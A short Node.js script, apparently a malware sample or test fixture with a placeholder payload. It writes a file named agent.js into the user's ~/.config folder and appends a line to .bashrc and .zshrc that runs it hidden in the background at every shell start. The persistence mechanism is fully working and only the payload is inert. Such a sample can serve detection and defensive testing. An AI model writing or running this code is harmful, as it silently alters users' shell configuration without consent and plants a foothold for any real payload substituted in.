'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const agent = path.join(os.homedir(), '.config', 'agent.js');
fs.mkdirSync(path.dirname(agent), { recursive: true });
fs.writeFileSync(agent, "console.log('INERT-PAYLOAD');\n");
for (const name of ['.bashrc', '.zshrc']) {
  fs.appendFileSync(path.join(os.homedir(), name), `\n(node ${agent} > /dev/null 2>&1 &)\n`);
}
